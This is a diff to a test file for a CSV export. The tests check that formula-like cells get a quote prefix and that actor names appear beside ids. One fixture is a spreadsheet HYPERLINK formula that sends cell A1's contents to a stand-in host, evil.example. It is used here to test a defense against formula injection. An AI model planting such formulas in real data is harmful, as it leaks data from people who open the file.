@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
 import { spawnSync } from 'node:child_process';
 import { generateKeyPairSync } from 'node:crypto';
@@ -208,8 +209,9 @@ describe('the CSV export', () => {
   const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 
   it('prefixes with a quote every cell a spreadsheet would run as a formula, and names each actor beside their id', async () => {
-    // Through the API: a refused PATCH naming a formula as the organization id, with a formula as request id…
-    await api.as('auditor').patch(`/api/organizations/${encodeURIComponent(FORMULA)}`).set('X-Request-Id', FORMULA).send({ city: 'x' }).expect(403);
+    // Through the API: a refused PATCH with a formula as request id (replaced: only plain tokens are kept)…
+    const organizationId = randomUUID();
+    await api.as('auditor').patch(`/api/organizations/${organizationId}`).set('X-Request-Id', FORMULA).send({ city: FORMULA }).expect(403);
     // …and a user whose display name is one.
     const evil = await api.as('admin').post('/api/users').send({ username: 'formula.user', password: USER_PASSWORD, displayName: FORMULA, roles: ['manager'] }).expect(201);
     const login = await request(api.http).post('/api/auth/login').send({ username: 'formula.user', password: USER_PASSWORD }).expect(200);
@@ -237,8 +239,8 @@ describe('the CSV export', () => {
     expect(live).toEqual([]);
 
     const refused = records.find((record) => record.action === 'PATCH /api/organizations/:id')!;
-    expect(refused).toMatchObject({ outcome: 'denied', entityId: `'${FORMULA}`, actorId: api.ids.auditor, actorName: 'Test auditor (auditor)' });
-    expect([`'${FORMULA}`, expect.stringMatching(/^[0-9a-f-]{36}$/)]).toContainEqual(refused.requestId);
+    expect(refused).toMatchObject({ outcome: 'denied', entityId: organizationId, actorId: api.ids.auditor, actorName: 'Test auditor (auditor)' });
+    expect(refused.requestId).toMatch(/^[0-9a-f-]{36}$/);
     const created = records.find((record) => record.actorId === evil.body.id)!;
     expect(created).toMatchObject({ entityType: 'organization', actorName: `'${FORMULA} (formula.user)` });
     const probes = records.filter((record) => record.action === 'FORMULA_PROBE');
